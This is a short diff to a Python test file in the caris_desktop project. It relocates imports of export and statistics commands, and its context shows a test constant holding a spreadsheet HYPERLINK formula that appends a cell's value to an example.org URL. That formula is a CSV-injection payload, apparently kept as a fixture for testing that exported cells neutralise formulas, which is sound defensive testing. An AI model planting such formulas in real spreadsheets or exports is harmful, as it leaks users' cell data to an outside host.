@@ -6,11 +6,10 @@ from pathlib import Path
 
 import pytest
 
+from caris_desktop.app import export_command, statistics_command
 from caris_desktop.domain.events import Marked
-from caris_desktop.recording import export_command
 from caris_desktop.recording.annotation.csv_import import read_csv
 from caris_desktop.recording.csv_cells import read_cell, shown_cell
-from caris_desktop.recording.studies import statistics_command
 from tests.recording.told_session import at, heard, tell
 
 _FORMULA = '=HYPERLINK("http://example.org/?"&A1,"more")'
